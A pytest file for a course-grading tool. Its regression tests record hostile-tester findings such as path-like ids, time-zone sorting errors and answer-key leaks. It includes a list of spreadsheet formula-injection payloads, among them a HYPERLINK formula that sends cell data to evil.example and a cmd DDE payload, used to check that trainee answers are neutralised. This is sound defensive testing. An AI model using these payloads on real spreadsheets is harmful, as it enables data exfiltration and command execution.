"""What a hostile tester did to the course tools, each kept as a test: NA-like ids, unitless keys, mixed time
zones, blank question cells, late answers past the policy, path-like question ids, keys replaced by --force.

One small class (``tiny`` world, 300 firms, two trainees) is made once; tests that edit the key copy it first.
Expected values come from the key (each trainee's truth), never typed in.
"""

from __future__ import annotations

import shutil
import textwrap
from pathlib import Path

import pandas as pd
import pytest

from kaigai_lib.exercises import classroom
from kaigai_lib.exercises.classroom import make_course, read_course_key
from kaigai_lib.replication.cli import main

EFFECT = """\
id: effect
question: "The true 5-year effect of exporting on the log sales of firms with 50-99 employees?"
world:
  preset: tiny
  params: {n_firms: 300, n_establishments: 100}
  trainee_may_change:
    export_effects.50-99.sales: {min: 0.05, max: 0.30, step: 0.05}
  vary_per_trainee: [export_effects.50-99.sales]
quantity: {kind: true_effect, analysis: export, outcome: sales, group: "50-99", horizon: 5}
tolerance: 0.01
"""
WEEK = """\
id: week1
title: "Week 1"
deadline: 2026-12-01T17:00+09:00
{late}questions:
  - {{exercise: effect.yml, id: {qid}, points: 4}}
"""


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("hostile")
    write(root, "effect.yml", EFFECT)
    write(root, "week1.yml", WEEK.format(late="late_policy: {penalty_per_day: 0.1, accept_days: 2}\n",
                                         qid="effect"))
    write(root, "roster.csv", "trainee_id,name,email\ns01,A,\ns02,B,\n")
    make_course(root / "week1.yml", root / "roster.csv", root / "handouts", root / "key", engine="serial",
                salt="hostile")
    return {"root": root, "key": root / "key"}


def truths(key_dir: Path) -> dict[tuple[str, str], float]:
    key = read_course_key(key_dir)[1]
    return {(r.trainee_id, r.question): float(r.truth) for r in key.itertuples()}


def grade(key_dir: Path, rows: list[str], out: Path, capsys: pytest.CaptureFixture[str],
          header: str = "trainee_id,question,answer,submitted_at") -> tuple[int, pd.DataFrame, str]:
    answers = out.parent / f"{out.name}_answers.csv"
    answers.write_text(header + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    code = main(["course", "grade", "--key", str(key_dir), "--answers", str(answers), "--out", str(out)])
    printed = capsys.readouterr()
    detail = (pd.read_csv(out / "detail.csv", dtype=str, keep_default_na=False) if code == 0 else pd.DataFrame())
    return code, detail, printed.out + printed.err


def copy_key(course: dict[str, Path], tmp_path: Path) -> Path:
    return Path(shutil.copytree(course["key"], tmp_path / "key"))


# 1. a unitless question (empty unit cell) with a unit slip crashed the grading of the whole class


def test_a_unit_slip_on_a_unitless_question_is_diagnosed_not_a_crash(course, tmp_path, capsys) -> None:
    key_dir = copy_key(course, tmp_path)
    key = pd.read_csv(key_dir / "key.csv", dtype=str, keep_default_na=False)
    key["unit"] = ""  # as for lp-labour-machinery: no unit
    key.to_csv(key_dir / "key.csv", index=False, lineterminator="\n")
    truth = truths(key_dir)
    code, detail, printed = grade(key_dir, [f"s01,effect,{100 * truth['s01', 'effect']!r},",
                                            f"s02,effect,{truth['s02', 'effect']!r},"], tmp_path / "g", capsys)
    assert code == 0, printed
    feedback = detail.set_index("trainee_id")["feedback"]
    assert feedback["s01"] == "unit slip: answered in percent where the unit is the one asked"
    assert feedback["s02"] == "correct" and "Traceback" not in printed


def test_one_answers_unexpected_failure_is_reported_in_its_row_and_the_others_are_graded(
        course, tmp_path, capsys, monkeypatch) -> None:
    truth = truths(course["key"])
    original = classroom.diagnose

    def failing(answer: float, *args: object) -> str:
        if answer == 0.5:
            raise TypeError("boom")
        return original(answer, *args)

    monkeypatch.setattr(classroom, "diagnose", failing)
    code, detail, printed = grade(course["key"], ["s01,effect,0.5,", f"s02,effect,{truth['s02', 'effect']!r},"],
                                  tmp_path / "g", capsys)
    assert code == 0
    rows = detail.set_index("trainee_id")
    assert rows.loc["s01", "status"] == "error"
    assert "line 2: this answer could not be graded (TypeError: boom); grade it by hand" in rows.loc["s01", "feedback"]
    assert "line 2: this answer could not be graded" in printed
    assert rows.loc["s02", "status"] == "graded" and float(rows.loc["s02", "points"]) == 4.0


# 4. ids that pandas reads as missing ("NA", "null", "None", "nan") were graded as unknown

NA_IDS = ["NA", "null", "None", "nan"]  # pandas reads each as missing by default


def test_na_like_trainee_and_question_ids_are_graded_in_a_course(tmp_path, capsys) -> None:
    write(tmp_path, "effect.yml", EFFECT)
    write(tmp_path, "week.yml", WEEK.format(late="", qid='"NA"'))
    write(tmp_path, "roster.csv", "trainee_id,name,email\n" + "".join(f"{tid},,\n" for tid in NA_IDS))
    make_course(tmp_path / "week.yml", tmp_path / "roster.csv", tmp_path / "h", tmp_path / "k", engine="serial",
                salt="na")
    truth = truths(tmp_path / "k")
    assert sorted(truth) == sorted((tid, "NA") for tid in NA_IDS)
    code, detail, printed = grade(tmp_path / "k", [f"{tid},NA,{truth[tid, 'NA']!r}," for tid in NA_IDS],
                                  tmp_path / "g", capsys)
    assert code == 0 and "not on the roster" not in printed and "not in the assignment" not in printed
    assert detail["status"].tolist() == ["graded"] * len(NA_IDS)
    book = pd.read_csv(tmp_path / "g" / "gradebook.csv", dtype=str, keep_default_na=False)
    assert book["trainee_id"].tolist() == NA_IDS and book["NA (4)"].astype(float).tolist() == [4.0] * len(NA_IDS)


def test_na_like_exercise_and_trainee_ids_are_graded_by_exercises_grade(tmp_path, capsys) -> None:
    from kaigai_lib.exercises.spec import read_key

    write(tmp_path, "na.yml", EFFECT.replace("id: effect", 'id: "NA"'))
    write(tmp_path, "roster.csv", "trainee_id\n" + "".join(f"{tid}\n" for tid in NA_IDS))
    assert main(["exercises", "make", "--exercise", str(tmp_path / "na.yml"), "--roster",
                 str(tmp_path / "roster.csv"), "--out", str(tmp_path / "data")]) == 0
    key = read_key(tmp_path / "data_key.csv")
    assert key["trainee_id"].tolist() == NA_IDS and set(key["exercise_id"]) == {"NA"}
    answers = tmp_path / "answers.csv"
    answers.write_text("trainee_id,answer\n" + "".join(f"{r.trainee_id},{r.answer!r}\n" for r in key.itertuples()),
                       encoding="utf-8")
    assert main(["exercises", "grade", "--key", str(tmp_path / "data_key.csv"), "--answers",
                 str(answers), "--out", str(tmp_path / "graded.csv")]) == 0
    assert f"{len(NA_IDS)} correct" in capsys.readouterr().out
    graded = pd.read_csv(tmp_path / "graded.csv", dtype=str, keep_default_na=False)
    assert graded["verdict"].tolist() == ["correct"] * len(NA_IDS)


@pytest.mark.parametrize("bad", ["", "n/a"])
def test_empty_and_slashed_ids_are_refused_by_the_roster(tmp_path, capsys, bad) -> None:
    write(tmp_path, "effect.yml", EFFECT)
    write(tmp_path, "week.yml", WEEK.format(late="", qid="effect"))
    write(tmp_path, "roster.csv", f"trainee_id,name\ns01,A\n{bad},B\n")
    assert main(["course", "make", str(tmp_path / "week.yml"), "--roster", str(tmp_path / "roster.csv"),
                 "--out", str(tmp_path / "h"), "--key", str(tmp_path / "k")]) == 2
    err = capsys.readouterr().err
    assert "row 3:" in err and ("empty trainee_id" in err if not bad else "letters, digits" in err)
    assert not (tmp_path / "h").exists()


def points_of(folder: Path) -> dict[str, float]:
    book = pd.read_csv(folder / "gradebook.csv", dtype=str, keep_default_na=False).set_index("trainee_id")
    return book["effect (4)"].astype(float).to_dict()


# 6. "last" was found by sorting the timestamps as text: mixed time zones sorted wrong


def test_the_last_attempt_is_the_latest_instant_whatever_the_time_zones(course, tmp_path, capsys) -> None:
    truth = truths(course["key"])
    right, wrong = truth["s01", "effect"], truth["s01", "effect"] + 1
    # 02:00Z is an hour after 10:00+09:00 (01:00Z), though it sorts before it as text
    code, detail, _ = grade(course["key"], [f"s01,effect,{right!r},2026-11-30T02:00Z",
                                            f"s01,effect,{wrong!r},2026-11-30T10:00+09:00"], tmp_path / "g", capsys)
    assert code == 0 and points_of(tmp_path / "g")["s01"] == 4.0
    assert detail.set_index("line").loc["2", "counted"] == "True"
    assert "(not counted: the last attempt, line 2, counts)" in detail.set_index("line").loc["3", "feedback"]


# 5. a late answer the policy does not accept replaced an accepted one as the "last" attempt


def test_an_answer_past_the_late_policy_never_replaces_an_accepted_one(course, tmp_path, capsys) -> None:
    truth = truths(course["key"])
    rows = [f"s01,effect,{truth['s01', 'effect']!r},2026-12-01T10:00+09:00",   # on time, right
            f"s01,effect,{truth['s01', 'effect'] + 1!r},2026-12-10T10:00+09:00",  # 8.7 days late: not accepted
            f"s02,effect,{truth['s02', 'effect']!r},2026-12-10T10:00+09:00"]      # only a refused answer
    code, detail, _ = grade(course["key"], rows, tmp_path / "g", capsys)
    assert code == 0 and points_of(tmp_path / "g") == {"s01": 4.0, "s02": 0.0}
    by_line = detail.set_index("line")
    assert by_line["counted"].tolist() == ["True", "False", "False"]
    for line in ("3", "4"):
        assert "late by 8.71 day(s), past the 2 day(s) the late policy accepts: not accepted" in \
            by_line.loc[line, "feedback"]


# 7. a blank question cell was graded as question 1 of several


def test_a_blank_question_cell_is_reported_when_the_assignment_has_several(tmp_path, capsys) -> None:
    write(tmp_path, "effect.yml", EFFECT)
    write(tmp_path, "week.yml", WEEK.format(late="", qid="a") + "  - {exercise: effect.yml, id: b, points: 1}\n")
    write(tmp_path, "roster.csv", "trainee_id\ns01\n")
    make_course(tmp_path / "week.yml", tmp_path / "roster.csv", tmp_path / "h", tmp_path / "k", engine="serial",
                salt="blank")
    truth = truths(tmp_path / "k")
    code, detail, printed = grade(tmp_path / "k", [f"s01,,{truth['s01', 'a']!r},", f"s01,b,{truth['s01', 'b']!r},"],
                                  tmp_path / "g", capsys)
    assert code == 0
    message = ("line 2: the question cell is empty and the assignment has 2 questions (a, b); write which one in "
               "the question column")
    assert detail["status"].tolist() == ["unknown question", "graded"] and detail["feedback"][0] == message
    assert message in printed
    book = pd.read_csv(tmp_path / "g" / "gradebook.csv", dtype=str, keep_default_na=False)
    assert book[["a (4)", "b (1)"]].astype(float).values.tolist() == [[0.0, 1.0]]


def test_a_blank_question_cell_is_the_question_when_there_is_only_one(course, tmp_path, capsys) -> None:
    truth = truths(course["key"])
    code, detail, _ = grade(course["key"], [f"s01,,{truth['s01', 'effect']!r},"], tmp_path / "g", capsys)
    assert code == 0 and detail["question"].tolist() == ["effect"] and points_of(tmp_path / "g")["s01"] == 4.0


# 2/3. question ids named paths (".." wrote into the hand-outs' root, zips held "s01/../…"), broke answers.csv
# (a comma) and starter.ipynb (a quote or backslash), or were the name of a file beside them (Errno 21)


@pytest.mark.parametrize(("qid", "expected"), [
    ('".."', "'..' — use letters, digits, '-', '_' and '.' only, starting with a letter or digit"),
    ('".hidden"', "'.hidden' — use letters"),
    ('"Q1, part a"', "'Q1, part a' — use letters"),
    ("'a\\b'", "'a\\\\b' — use letters"),
    ("'say\"hi'", "'say\"hi' — use letters"),
    ('"sub/dir"', "'sub/dir' — use letters"),
    ('"README.md"', "'README.md' is the name of a file beside a folder in every hand-out (README.md)"),
    ('"Answers.CSV"', "is the name of a file beside a folder in every hand-out (answers.csv)"),
    ('"starter.ipynb"', "(starter.ipynb); rename the question"),
    ('"nul.txt"', "is a device name on Windows"),
    ("7", "must be a text, got 7"),
])
def test_question_ids_follow_the_rules_of_trainee_ids(tmp_path, capsys, qid, expected) -> None:
    write(tmp_path, "effect.yml", EFFECT)
    write(tmp_path, "week.yml", WEEK.format(late="", qid=qid))
    write(tmp_path, "roster.csv", "trainee_id\ns01\n")
    assert main(["course", "make", str(tmp_path / "week.yml"), "--roster", str(tmp_path / "roster.csv"),
                 "--out", str(tmp_path / "h"), "--key", str(tmp_path / "k")]) == 2
    err = capsys.readouterr().err
    assert "questions[1].id: " in err and expected in err and "Traceback" not in err
    assert not (tmp_path / "h").exists() and not (tmp_path / "k").exists()


def test_question_ids_differing_only_in_case_are_refused(tmp_path, capsys) -> None:
    write(tmp_path, "effect.yml", EFFECT)
    write(tmp_path, "week.yml", WEEK.format(late="", qid="part") + "  - {exercise: effect.yml, id: PART}\n")
    write(tmp_path, "roster.csv", "trainee_id\ns01\n")
    assert main(["course", "make", str(tmp_path / "week.yml"), "--roster", str(tmp_path / "roster.csv"),
                 "--out", str(tmp_path / "h"), "--key", str(tmp_path / "k")]) == 2
    assert "questions[2].id: 'PART' repeats an earlier question (ignoring case" in capsys.readouterr().err


@pytest.mark.parametrize(("exercise_id", "expected"), [
    ('"../x"', "'../x' — use letters"), ('"a,b"', "'a,b' — use letters"), ("CON", "device name on Windows")])
def test_exercise_ids_follow_the_same_rules(tmp_path, capsys, exercise_id, expected) -> None:
    write(tmp_path, "x.yml", EFFECT.replace("id: effect", f"id: {exercise_id}"))
    assert main(["exercises", "check", str(tmp_path / "x.yml")]) == 2
    err = capsys.readouterr().err
    assert "id: " in err and expected in err and "Traceback" not in err


# 11. course grade --out inside a hand-outs folder wrote every truth (detail.csv) where trainees get it


@pytest.mark.parametrize("where", ["handouts/grades", "handouts/s01/grades", "handouts", "."])
def test_grades_inside_the_handouts_are_refused(course, tmp_path, capsys, where) -> None:
    answers = tmp_path / "answers.csv"
    answers.write_text("trainee_id,answer\ns01,0.1\n", encoding="utf-8")
    out = course["root"] / where
    before = sorted(p.relative_to(course["root"]) for p in course["root"].rglob("*"))
    assert main(["course", "grade", "--key", str(course["key"]), "--answers", str(answers), "--out", str(out),
                 "--force"]) == 2
    err = capsys.readouterr().err
    assert f"is inside the hand-outs {course['root'] / 'handouts'} (or contains them" in err
    assert "Write them beside the key" in err and "Traceback" not in err
    assert sorted(p.relative_to(course["root"]) for p in course["root"].rglob("*")) == before


# 9. course make --force replaced the key's salt and dropped the late trainees of `course add`


def key_bytes(key_dir: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in key_dir.iterdir() if p.is_file()}


def test_force_keeps_the_salt_and_refuses_to_orphan_handed_out_trainees(tmp_path, capsys) -> None:
    write(tmp_path, "effect.yml", EFFECT)
    write(tmp_path, "week.yml", WEEK.format(late="", qid="effect"))
    write(tmp_path, "roster.csv", "trainee_id\ns01\n")
    make = ["course", "make", str(tmp_path / "week.yml"), "--roster", str(tmp_path / "roster.csv"), "--out",
            str(tmp_path / "h"), "--key", str(tmp_path / "k"), "--engine", "serial"]
    assert main(make) == 0
    first = key_bytes(tmp_path / "k")
    assert main([*make, "--force"]) == 0  # remade into the same folders: the same salt, the same worlds
    assert key_bytes(tmp_path / "k")["key.csv"] == first["key.csv"]
    assert json_salt(key_bytes(tmp_path / "k")) == json_salt(first)
    write(tmp_path, "late.csv", "trainee_id\ns01\nlate1\n")
    assert main(["course", "add", "--key", str(tmp_path / "k"), "--roster", str(tmp_path / "late.csv"), "--out",
                 str(tmp_path / "h_late"), "--engine", "serial"]) == 0
    added = key_bytes(tmp_path / "k")
    capsys.readouterr()
    for roster, lost in (("roster.csv", "trainee(s) late1 missing from the roster and hand-outs in "),
                         ("late.csv", "lists hand-outs in ")):
        make[4] = str(tmp_path / roster)
        assert main([*make, "--force"]) == 2
        err = capsys.readouterr().err
        assert lost in err and str(tmp_path / "h_late") in err and "--replace-key" in err
        assert key_bytes(tmp_path / "k") == added  # nothing replaced
    assert main([*make, "--force", "--replace-key"]) == 0
    assert json_salt(key_bytes(tmp_path / "k")) != json_salt(added)


def json_salt(files: dict[str, bytes]) -> str:
    import json

    return json.loads(files["course.json"])["salt"]


# 10. exercises page --out replaced an existing page without --force, hand-edited ones too, and could swap a
# course-edition page for the public one (which carries the answer keys)


def test_an_existing_page_is_replaced_only_with_force_unedited_and_in_the_same_edition(tmp_path, capsys) -> None:
    exercise = write(tmp_path, "effect.yml", EFFECT)
    page = tmp_path / "page.html"
    run = ["exercises", "page", str(exercise), "--out", str(page)]
    assert main([*run, "--course"]) == 0
    written = page.read_bytes()
    capsys.readouterr()
    assert main([*run, "--course"]) == 2
    assert f"--out {page} exists: add --force to replace it" in capsys.readouterr().err
    assert main([*run]) == 2 and main([*run, "--force"]) == 2  # the public edition over the course one
    err = capsys.readouterr().err
    assert f"--out {page} is the course edition and this is the public edition (which carries the answer keys)" in err
    assert page.read_bytes() == written
    assert main([*run, "--course", "--force"]) == 0 and page.read_bytes() == written  # unedited, same edition
    page.write_bytes(written.replace(b"<h1>", b"<p>Due Friday!</p><h1>", 1))  # hand-edited
    edited = page.read_bytes()
    assert main([*run, "--course", "--force"]) == 2
    assert f"--out {page} was edited since kaigai wrote it" in capsys.readouterr().err
    assert page.read_bytes() == edited
    public = tmp_path / "public.html"
    assert main(["exercises", "page", str(exercise), "--out", str(public)]) == 0
    assert main(["exercises", "page", str(exercise), "--out", str(public), "--course", "--force"]) == 2
    assert "is the public edition and this is the course edition: it is not replaced" in capsys.readouterr().err


# 12. feedback before the deadline ("out of tolerance by 0.39 (40.0× the tolerance)", "sign") gave the truth away


def test_feedback_before_the_deadline_says_how_far_not_which_way(course, tmp_path) -> None:
    import datetime as dt

    truth = truths(course["key"])
    tol = 0.01
    answers = tmp_path / "answers.csv"
    answers.write_text("trainee_id,answer,submitted_at\n"
                       f"s01,{truth['s01', 'effect'] + 40 * tol!r},2026-11-30T10:00+09:00\n"
                       f"s01,{truth['s01', 'effect'] + 2 * tol!r},2026-11-30T11:00+09:00\n"
                       f"s02,{-truth['s02', 'effect']!r},2026-11-30T10:00+09:00\n", encoding="utf-8")
    deadline = dt.datetime.fromisoformat("2026-12-01T17:00+09:00")
    early = classroom.grade_course(course["key"], answers, tmp_path / "early", now=deadline - dt.timedelta(hours=1))
    s01 = (tmp_path / "early" / "feedback" / "s01.md").read_text(encoding="utf-8")
    s02 = (tmp_path / "early" / "feedback" / "s02.md").read_text(encoding="utf-8")
    assert "far off: more than 10× the tolerance away (not counted" in s01
    assert "close: within 3× the tolerance, but not within it" in s01 and "Before the deadline" in s01
    assert classroom._size_class(2 * abs(truth["s02", "effect"]), tol) in s02
    for text in (s01, s02):
        assert "out of tolerance by" not in text and "sign" not in text and "above" not in text
    # the instructor's detail says everything
    assert early["detail"]["feedback"].str.startswith("out of tolerance by").sum() == 2
    assert early["detail"]["feedback"].str.startswith("sign").sum() == 1
    late = classroom.grade_course(course["key"], answers, tmp_path / "late", now=deadline)
    after = (tmp_path / "late" / "feedback" / "s02.md").read_text(encoding="utf-8")
    assert "sign: the size is right but the sign is wrong" in after and "Before the deadline" not in after
    assert late["gradebook"].equals(early["gradebook"])
    classroom.grade_course(course["key"], answers, tmp_path / "full", now=deadline - dt.timedelta(hours=1),
                           full_feedback=True)
    assert (tmp_path / "full" / "feedback" / "s02.md").read_text(encoding="utf-8") == after


def test_as_of_grades_as_at_a_given_time_and_refuses_a_time_without_a_zone(course, tmp_path, capsys) -> None:
    """`course grade --as-of` makes the feedback independent of the clock (the book's example uses it)."""
    truth = truths(course["key"])
    answers = tmp_path / "answers.csv"
    answers.write_text(f"trainee_id,answer,submitted_at\ns02,{-truth['s02', 'effect']!r},2026-11-30T10:00+09:00\n",
                       encoding="utf-8")
    grade = ["course", "grade", "--key", str(course["key"]), "--answers", str(answers)]
    assert main([*grade, "--out", str(tmp_path / "early"), "--as-of", "2026-12-01T16:59+09:00"]) == 0
    assert main([*grade, "--out", str(tmp_path / "after"), "--as-of", "2026-12-01T08:00Z"]) == 0  # = 17:00 JST
    early = (tmp_path / "early" / "feedback" / "s02.md").read_text(encoding="utf-8")
    after = (tmp_path / "after" / "feedback" / "s02.md").read_text(encoding="utf-8")
    assert "Before the deadline" in early and "sign" not in early
    assert "sign: the size is right but the sign is wrong" in after and "Before the deadline" not in after
    capsys.readouterr()
    for bad, said in (("2026-12-05T09:00", "has no time zone"), ("46000", "spreadsheet serial number"),
                      ("next friday", "is not a date-time")):
        assert main([*grade, "--out", str(tmp_path / "bad"), "--as-of", bad]) == 2
        err = capsys.readouterr().err
        assert f"--as-of: {bad}" in err.replace("'", "") and said in err and "Traceback" not in err
        assert not (tmp_path / "bad").exists()


# 13. a signal between the hand-outs' move and the key's left hand-outs without a key (the salt lost); a SIGKILL
# during `course add` left the key only in a hidden folder, and grade / add said "not a course key folder"

# runs a kaigai command in a child that sends itself a signal at its Nth call of os.rename or os.chmod
SIGNAL_AT = """
import os, signal, sys
from kaigai_lib.replication.cli import main
call, when, signum = sys.argv[1], int(sys.argv[2]), getattr(signal, sys.argv[3])
real, seen = getattr(os, call), 0
def hooked(*args, **kwargs):
    global seen
    seen += 1
    if seen == when:
        os.kill(os.getpid(), signum)  # SIGKILL dies here; SIGTERM is delivered now or when signals are let through
    return real(*args, **kwargs)
setattr(os, call, hooked)
sys.exit(main(sys.argv[4:]))
"""


def signal_at(call: str, when: int, signum: str, argv: list[str], cwd: Path) -> int:
    import subprocess
    import sys

    return subprocess.run([sys.executable, "-c", SIGNAL_AT, call, str(when), signum, *argv], cwd=cwd,
                          capture_output=True, text=True, check=False).returncode


@pytest.fixture(scope="module")
def small_course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("signals")
    write(root, "effect.yml", EFFECT.replace("n_firms: 300", "n_firms: 150"))
    write(root, "week.yml", WEEK.format(late="", qid="effect"))
    write(root, "roster.csv", "trainee_id\ns01\ns02\n")
    write(root, "late.csv", "trainee_id\ns01\ns02\nlate1\n")
    return root


def handed_out(root: Path) -> set[str]:
    """Trainees with a hand-out in any folder of the course (folders beginning with "h")."""
    return {p.name for h in root.glob("h*") if h.is_dir() for p in h.iterdir() if p.is_dir()}


def course_state(root: Path, capsys: pytest.CaptureFixture[str]) -> tuple[set[str], set[str]]:
    """(trainees with a hand-out, trainees in the key) after grading, which puts back what a killed run left."""
    (root / "answers.csv").write_text("trainee_id,answer\ns01,0.1\n", encoding="utf-8")
    shutil.rmtree(root / "g", ignore_errors=True)
    code = main(["course", "grade", "--key", str(root / "k"), "--answers", str(root / "answers.csv"),
                 "--out", str(root / "g")])
    err = capsys.readouterr().err
    if not (root / "h").exists():  # nothing made: then there is no key either, and grade says so
        assert code == 2 and "not a course key folder" in err
        return set(), set()
    assert code == 0, err
    key = read_course_key(root / "k")[1]
    return handed_out(root), set(key["trainee_id"])


@pytest.mark.parametrize(("call", "when", "signum"), [
    ("chmod", 2, "SIGTERM"),  # after the hand-outs are sealed, before any move: neither is left
    ("rename", 2, "SIGKILL"),  # killed before the hand-outs' move: the next command removes the ready key
    ("rename", 3, "SIGKILL"),  # killed after the hand-outs' move: the next command moves the key in
])
def test_course_make_leaves_hand_outs_and_key_together_or_neither(small_course, tmp_path, capsys, call, when,
                                                                   signum, monkeypatch) -> None:
    root = Path(shutil.copytree(small_course, tmp_path / "c"))
    monkeypatch.chdir(root)
    make = ["course", "make", "week.yml", "--roster", "roster.csv", "--out", "h", "--key", "k", "--engine", "serial"]
    code = signal_at(call, when, signum, make, root)
    assert code in (143, -9), code
    trainees, in_key = course_state(root, capsys)
    assert trainees == in_key and trainees in (set(), {"s01", "s02"})
    if trainees:  # the key's salt is the hand-outs' one: a remake with --force gives the same data
        data = (root / "h" / "s01" / "effect" / "firms.csv.gz").read_bytes()
        assert main([*make, "--force"]) == 0
        assert (root / "h" / "s01" / "effect" / "firms.csv.gz").read_bytes() == data
    assert not [p.name for p in root.iterdir() if ".kaigai-" in p.name and not p.name.endswith("-lock")
                and not p.name.startswith(".h.")]  # the key's leftovers are tidied (the hand-outs' by their next run)


@pytest.mark.parametrize("when", [3, 4])  # the late hand-outs moved in; the old key parked
def test_a_course_add_killed_mid_way_is_finished_or_undone_by_the_next_command(small_course, tmp_path, capsys,
                                                                                when, monkeypatch) -> None:
    root = Path(shutil.copytree(small_course, tmp_path / "c"))
    monkeypatch.chdir(root)
    assert main(["course", "make", "week.yml", "--roster", "roster.csv", "--out", "h", "--key", "k",
                 "--engine", "serial"]) == 0
    add = ["course", "add", "--key", "k", "--roster", "late.csv", "--out", "h_late", "--engine", "serial"]
    assert signal_at("rename", when, "SIGKILL", add, root) == -9
    trainees, in_key = course_state(root, capsys)
    assert trainees == in_key == {"s01", "s02", "late1"}
    again = main([*add[:-4], "--out", "h_late2", "--engine", "serial"])
    assert again == 2  # added once: the key lists them


def test_a_failed_key_move_puts_the_earlier_hand_outs_back(small_course, tmp_path, monkeypatch) -> None:
    import os

    root = Path(shutil.copytree(small_course, tmp_path / "c"))
    made = make_course(root / "week.yml", root / "roster.csv", root / "h", root / "k", engine="serial")
    before = {p.relative_to(root).as_posix(): p.read_bytes() for p in (root / "h").rglob("*") if p.is_file()}
    real = os.rename

    def refuse_the_key(src: object, dst: object) -> None:
        if Path(dst) == made.key and ".kaigai-ready-" in str(src):  # the new key's move, not the old one's return
            raise PermissionError(13, "Permission denied", str(dst))
        real(src, dst)

    monkeypatch.setattr(os, "rename", refuse_the_key)
    with pytest.raises(PermissionError):
        make_course(root / "week.yml", root / "roster.csv", root / "h", root / "k", engine="serial", force=True,
                    replace_key=True)  # a new salt: new hand-outs, had they gone in
    monkeypatch.undo()
    assert {p.relative_to(root).as_posix(): p.read_bytes() for p in (root / "h").rglob("*") if p.is_file()} == before
    assert not [p.name for p in root.iterdir() if ".kaigai-" in p.name and not p.name.endswith("-lock")]


# 14. a trainee's answer or question cell like =HYPERLINK(...) went verbatim into detail.csv, the gradebook and the
# copy check, which the instructor opens in a spreadsheet (OWASP "CSV injection")

INJECTIONS = ["=1+1", '=HYPERLINK("http://evil.example/"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
              "\t=1+1", "\r=1+1", " =1+1"]


def formula_cells(files: list[Path]) -> list[str]:
    """Cells of CSV files a spreadsheet would run as a formula (a plain number is not one)."""
    import csv
    import re

    found = []
    for path in files:
        with open(path, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                found += [f"{path.name}: {cell!r}" for cell in row if cell.lstrip(" ").startswith(
                    ("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell)]
    return found


def test_trainee_text_is_never_written_as_a_spreadsheet_formula(course, tmp_path, capsys) -> None:
    truth = truths(course["key"])[("s01", "effect")]
    negative = f"{-truth!r}"  # a negative number stays a number: wrong (the sign), and readable as one
    rows = [f'{tid},effect,"{text.replace(chr(34), chr(34) * 2)}",' for tid, text in
            zip(["s01", "s02"] * 4, INJECTIONS, strict=True)]
    rows += ['"=HYPERLINK(""x"")",effect,0.1,', 's01,"@cmd",0.1,', f"s01,effect,{negative},", f"s02,effect,{truth!r},"]
    code, detail, _ = grade(course["key"], rows, tmp_path / "g", capsys)
    assert code == 0
    assert formula_cells(sorted((tmp_path / "g").glob("*.csv"))) == []
    # answers are read trimmed (a leading tab or space goes); what is left of each gets the apostrophe
    assert detail["answer"].tolist()[:len(INJECTIONS)] == [f"'{text.strip()}" for text in INJECTIONS]
    assert negative in detail["answer"].tolist()  # as written, no apostrophe
    assert pd.read_csv(tmp_path / "g" / "detail.csv")["truth"].dtype == float
    assert (tmp_path / "g" / "copy_check.csv").read_text(encoding="utf-8").count(repr(truth)) == 1  # s02 copied s01


def test_exercises_grade_writes_no_spreadsheet_formula(tmp_path, capsys) -> None:
    write(tmp_path, "effect.yml", EFFECT.replace("n_firms: 300", "n_firms: 150"))
    write(tmp_path, "roster.csv", "trainee_id\ns01\ns02\n")
    assert main(["exercises", "make", "--exercise", str(tmp_path / "effect.yml"), "--roster",
                 str(tmp_path / "roster.csv"), "--out", str(tmp_path / "class"), "--key",
                 str(tmp_path / "key.csv")]) == 0
    answers = "trainee_id,answer\n" + "".join(f'{t},"{a.replace(chr(34), chr(34) * 2)}"\n' for t, a in
                                              zip(["s01", "s02", "=x", "-1+1"], INJECTIONS, strict=False))
    (tmp_path / "answers.csv").write_text(answers, encoding="utf-8")
    assert main(["exercises", "grade", "--key", str(tmp_path / "key.csv"), "--answers", str(tmp_path / "answers.csv"),
                 "--out", str(tmp_path / "graded.csv")]) == 0
    capsys.readouterr()
    assert formula_cells([tmp_path / "graded.csv"]) == []
    graded = pd.read_csv(tmp_path / "graded.csv", dtype=str, keep_default_na=False)
    assert graded["answer"].tolist()[:4] == [f"'{text}" for text in INJECTIONS[:4]]


# 15. exercises make wrote the key into the class folder by default (class/answer_key.csv): handing out the class
# folder, or a zip of it, handed out the key


def test_exercises_make_keeps_the_key_out_of_the_class_folder(tmp_path, capsys) -> None:
    write(tmp_path, "effect.yml", EFFECT.replace("n_firms: 300", "n_firms: 150"))
    write(tmp_path, "roster.csv", "trainee_id\ns01\ns02\n")
    make = ["exercises", "make", "--exercise", str(tmp_path / "effect.yml"), "--roster", str(tmp_path / "roster.csv")]
    for key in ("class/answer_key.csv", "class/s01/key.csv", "class/../class/k.csv"):
        assert main([*make, "--out", str(tmp_path / "class"), "--key", str(tmp_path / key)]) == 2
        assert "is inside --out" in capsys.readouterr().err and not (tmp_path / "class").exists()
    assert main([*make, "--out", str(tmp_path / "class")]) == 0
    assert f"Answer key: {tmp_path / 'class_key.csv'}" in capsys.readouterr().out
    assert sorted(p.name for p in (tmp_path / "class").iterdir() if not p.name.startswith(".")) == ["s01", "s02"]
    assert not [p for p in (tmp_path / "class").rglob("*") if "key" in p.name]
    from kaigai_lib.exercises.spec import read_key

    assert read_key(tmp_path / "class_key.csv")["trainee_id"].tolist() == ["s01", "s02"]
    assert main([*make, "--out", str(tmp_path / "class")]) == 2  # both exist: --force replaces both
    assert main([*make, "--out", str(tmp_path / "class"), "--force"]) == 0


def test_a_result_parked_by_a_killed_run_is_named_by_check_disclosure(tmp_path, capsys) -> None:
    parked = tmp_path / ".results.kaigai-old-x1y2" / "previous"
    parked.mkdir(parents=True)  # what `replicate --force` leaves when killed between its two moves
    assert main(["check-disclosure", str(tmp_path / "results")]) == 2
    err = capsys.readouterr().err
    assert "nothing was checked" in err and f"mv '{parked}' '{tmp_path / 'results'}'" in err
